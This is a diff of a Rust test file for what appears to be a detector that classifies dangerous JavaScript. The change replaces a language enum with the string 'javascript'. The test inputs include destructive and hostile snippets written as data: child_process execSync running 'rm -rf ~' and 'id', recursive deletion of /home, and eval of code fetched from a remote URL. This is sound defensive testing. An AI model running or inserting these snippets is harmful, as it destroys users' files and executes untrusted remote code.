@@ -1,12 +1,11 @@
 // SPDX-License-Identifier: Apache-2.0 OR MIT
 
-use super::super::Language::JavaScript;
 use super::check;
 
 #[test]
 fn programs_and_shells() {
     check(
-        JavaScript,
+        "javascript",
         &[
             (r"require('child_process').execSync('rm -rf ~')", "shell rm -rf ~"),
             (r#"const {execSync:e} = require('child_process'); e("id")"#, "shell id"),
@@ -42,7 +41,7 @@ fn programs_and_shells() {
 #[test]
 fn files() {
     check(
-        JavaScript,
+        "javascript",
         &[
             (r"require('fs').rmSync('/home', {recursive: true, force: true})", "delete! /home"),
             (r"fs.rmSync(path, {force: true})", "delete *?"),
@@ -78,7 +77,7 @@ fn files() {
 #[test]
 fn the_network() {
     check(
-        JavaScript,
+        "javascript",
         &[
             (r#"fetch("https://x.io/a").then(r => r.json())"#, "connect https://x.io/a"),
             (r#"eval(await (await fetch("https://x.io")).text())"#, "connect https://x.io; runs-fetched"),
@@ -100,7 +99,7 @@ fn the_network() {
 #[test]
 fn what_only_looks_like_it() {
     check(
-        JavaScript,
+        "javascript",
         &[
             (r#"console.log("rm -rf /")"#, ""),
             ("// require('fs').rmSync('/')", ""),
